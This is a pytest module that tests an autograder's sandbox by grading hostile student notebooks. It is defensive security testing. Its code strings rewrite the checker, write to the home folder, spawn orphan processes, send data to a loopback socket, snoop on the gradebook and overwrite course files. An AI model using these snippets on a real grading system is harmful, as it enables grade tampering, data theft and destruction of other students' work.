"""Hostile notebooks through the real flow (release, collect, autograde, export): each attack is
tried for real, and what it could reach is checked from outside the sandbox afterwards."""

from __future__ import annotations

import csv
import hashlib
import os
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from conftest import checkout_copy
from paths import ROOT

from grader.course import db_url
from grader.engine import sandbox
from grader.engine.job import CELL_OUTPUT_CAP, NOTEBOOK_OUTPUT_CAP
from grader.term import collect
from grader.term.scores import autograde
from maintainer.fabricated_class import (
    WRONG_ATTENTION,
    _text,
    cell_of,
    perfect,
    release,
    with_attention,
    write,
)

pytestmark = pytest.mark.heavy(order=7)
if sandbox.why_no_sandbox() and not os.environ.get(
    "CI"
):  # CI installs bubblewrap: there it must work
    pytest.skip(f"bubblewrap {sandbox.why_no_sandbox()}", allow_module_level=True)

MARK = uuid.uuid4().hex  # names this run's orphan process and home-folder file
HOME_FILE = Path.home() / f"tl-sandbox-{MARK}"


def grading_code(root: Path) -> list[Path]:
    return [
        *sorted((root / "checkpoints").rglob("*.py")),
        *sorted((root / "transformer_lab").rglob("*.py")),
    ]


REWRITE_CHECKER = """import importlib
import checkpoints._core
import transformer_lab.attention

for module in (checkpoints._core, transformer_lab.attention, check):
    try:
        with open(module.__file__, "a") as file:
            file.write("\\ndef exercise_1(*args, **kwargs):\\n    pass\\n")
        print("rewrote", module.__name__)
    except OSError as err:
        print("refused:", type(err).__name__)
importlib.reload(check)

"""
WRITE_HOME = f"""from pathlib import Path

try:
    Path("{HOME_FILE}").write_text("runs at the next login")
    print("wrote the home folder")
except OSError as err:
    print("home refused:", type(err).__name__)

"""
ORPHAN = f"""import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "while True: pass", "{MARK}"],
    start_new_session=True,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)

"""
CONNECT = """import socket

try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=3).sendall(b"stolen")
    print("connected")
except OSError as err:
    print("network refused:", type(err).__name__)

"""
SNOOP = """import os
import pathlib

# The strongest snoop knows where the course is. It reads, and opens for writing without
# writing (so a failed defence does not wreck the other grades), whatever it can reach.
course = pathlib.Path("@COURSE@")
targets = [course / "gradebook.db", course / "source", course / "submitted"]
reached = [str(p) for p in targets if os.access(p, os.R_OK)]
try:
    with open(course / "gradebook.db", "ab"):
        reached.append("gradebook.db opened for writing")
except OSError:
    pass
reached += [v for v in os.environ.values() if str(course) in v]
print("snoop reached", reached or "nothing")

"""
VANDAL = """import pathlib

course = pathlib.Path("@COURSE@")
for path in [course / "gradebook.db", *course.glob("*/*/*/*.ipynb")]:
    try:
        path.write_text("{}")
        print("overwrote", path)
    except OSError as err:
        print("vandal refused:", type(err).__name__)
print("vandal done")

"""
HUGE = """
for _ in range(50):
    print("x" * 1_000_000)  # 50 MB in all
"""
DIE = "\nimport os\n\nos._exit(0)\n"
TAMPER = "check.exercise_1 = lambda *args, **kwargs: None\n"


def _prepend(nb: dict, grade_id: str, code: str) -> dict:
    cell = cell_of(nb, grade_id)
    cell["source"] = code + _text(cell)
    return nb


def _append(nb: dict, grade_id: str, code: str) -> dict:
    cell = cell_of(nb, grade_id)
    cell["source"] = _text(cell) + code
    return nb


def _digest(paths) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}


def _grades(course: Path, students: list[str]) -> list:
    """Every grade of these students' 01_attention, as the gradebook holds it."""
    from nbgrader.api import Gradebook

    with Gradebook(db_url(course)) as gb:
        return [
            (student, grade.name, grade.score)
            for student in students
            for grade in gb.find_submission_notebook("01_attention", "01_attention", student).grades
        ]


def _printed(course: Path, student: str) -> str:
    path = course / "autograded" / student / "01_attention" / "01_attention.ipynb"
    nb = nbformat.read(path, 4)
    return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)


@pytest.fixture(scope="module")
def server():
    """A TCP server on the grader's loopback that records every connection it accepts."""
    listener = socket.create_server(("127.0.0.1", 0))
    accepted = []

    def serve():
        while True:
            try:
                accepted.append(listener.accept())
            except OSError:
                return

    threading.Thread(target=serve, daemon=True).start()
    yield listener.getsockname()[1], accepted
    listener.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, server):
    """The class is graded first; then the attackers, with the class's files watched. The grader
    runs from a copy of the checkout, so a sandbox that failed would damage only the copy."""
    with pytest.MonkeyPatch.context() as patch:
        checkout = checkout_copy(tmp_path_factory.mktemp("checkout"), patch)
        course = tmp_path_factory.mktemp("course")
        grader = [sys.executable, "-m", "grader", "--course", str(course)]
        release(course)
        honest = tmp_path_factory.mktemp("honest")
        write(honest / "ada" / "01_attention.ipynb", perfect(course, "01_attention"))
        write(honest / "bo" / "01_attention.ipynb", with_attention(course, WRONG_ATTENTION))
        collect.collect(honest, course)
        autograde(course, workers=2, cell_timeout=20, memory_gb=3, progress=False)
        watched = [*course.glob("submitted/**/*"), *course.glob("autograded/**/*")]
        before = _digest([*watched, *grading_code(checkout)]), _grades(course, ["ada", "bo"])

        port, _ = server
        intrusions = "".join(
            [
                SNOOP.replace("@COURSE@", str(course)),
                VANDAL.replace("@COURSE@", str(course)),
                WRITE_HOME,
                CONNECT.replace("@PORT@", str(port)),
                ORPHAN,
            ]
        )
        attacks = {
            "rewriter": _prepend(
                with_attention(course, WRONG_ATTENTION), "ex1_attention", REWRITE_CHECKER
            ),
            # Each attack catches its own refusal, so one student tries them all in turn.
            "intruder": _prepend(perfect(course, "01_attention"), "ex1_attention", intrusions),
            "huge": _append(perfect(course, "01_attention"), "ex1_attention", HUGE),
            "dies": _append(perfect(course, "01_attention"), "ex1_attention", DIE),
            "tamper": _append(with_attention(course, WRONG_ATTENTION), "ex1_attention", TAMPER),
        }
        downloads = tmp_path_factory.mktemp("attacks")
        for student, nb in attacks.items():
            write(downloads / student / "01_attention.ipynb", nb)
        collect.collect(downloads, course)
        outcomes = autograde(
            course, workers=2, cell_timeout=20, memory_gb=3, students=list(attacks), progress=False
        )
        after = _digest([*watched, *grading_code(checkout)]), _grades(course, ["ada", "bo"])
        subprocess.run([*grader, "export"], check=True, cwd=ROOT, capture_output=True)
        yield course, {o.student: o for o in outcomes}, before, after
        HOME_FILE.unlink(missing_ok=True)


def test_the_checker_cannot_be_rewritten(attacked):
    course, outcomes, before, after = attacked
    assert before[0] == after[0]  # checkpoints/, transformer_lab/, the class's files
    assert _printed(course, "rewriter").count("refused: OSError") == 3
    assert (outcomes["rewriter"].score, outcomes["rewriter"].max_score) == (1, 4)


def test_the_home_folder_is_read_only(attacked):
    course, _, _, _ = attacked
    assert not HOME_FILE.exists()
    assert "home refused" in _printed(course, "intruder")


def test_no_process_outlives_its_job(attacked):
    course, outcomes, _, _ = attacked
    assert outcomes["intruder"].score == 4  # the orphan was started, then the job ended
    mine = f"/proc/{os.getpid()}/cmdline"
    survivors = [
        p
        for p in Path("/proc").glob("[0-9]*/cmdline")
        if str(p) != mine and MARK.encode() in p.read_bytes()
    ]
    assert survivors == []


def test_no_network(attacked, server):
    course, _, _, _ = attacked
    _, accepted = server
    assert "network refused" in _printed(course, "intruder")
    assert accepted == []


def test_the_course_and_other_students_are_untouched(attacked):
    course, outcomes, before, after = attacked
    assert before == after  # their files byte for byte, their grades in the gradebook
    printed = _printed(course, "intruder")
    assert "snoop reached nothing" in printed  # nor even a path to the course in its variables
    assert "vandal done" in printed and "overwrote" not in printed
    assert outcomes["intruder"].score == 4


def test_huge_output_is_stored_cut_and_keeps_its_points(attacked):
    course, outcomes, _, _ = attacked
    assert (outcomes["huge"].score, outcomes["huge"].max_score) == (4, 4)
    stored = course / "autograded" / "huge" / "01_attention" / "01_attention.ipynb"
    assert stored.stat().st_size < NOTEBOOK_OUTPUT_CAP
    assert stored.stat().st_size > CELL_OUTPUT_CAP  # so the check above could fail
    assert "output cut by the grader" in _printed(course, "huge")


def test_a_dead_kernel_keeps_the_points_earned_before(attacked):
    course, outcomes, _, _ = attacked
    dies = outcomes["dies"]
    assert dies.status == "graded" and (dies.score, dies.max_score) == (1, 4)
    assert "kernel died in cell" in dies.reason and "(ex1_attention)" in dies.reason
    assert "kernel died in cell" in (course / "reports" / "autograde.md").read_text()


def test_tampering_is_flagged_with_the_line_and_scores_as_it_ran(attacked):
    course, outcomes, _, _ = attacked
    assert any(TAMPER.strip() in flag for flag in outcomes["tamper"].flags)
    assert any("import checkpoints._core" in flag for flag in outcomes["rewriter"].flags)
    # code that touches nothing is not flagged for it (huge's Exercise 0 is the course's
    # solution: a copy, which grader/term/copies.py flags on its own)
    assert [f for f in outcomes["huge"].flags if not f.startswith("copy: ")] == []
    assert "⚑ 01_attention" in (course / "reports" / "autograde.md").read_text()


def test_the_report_names_the_sandbox_and_export_has_every_attacker(attacked):
    course, outcomes, _, _ = attacked
    assert "Sandbox: bubblewrap" in (course / "reports" / "autograde.md").read_text()
    rows = list(csv.DictReader((course / "reports" / "grades.csv").open()))
    assert set(outcomes) <= {r["student_id"] for r in rows}
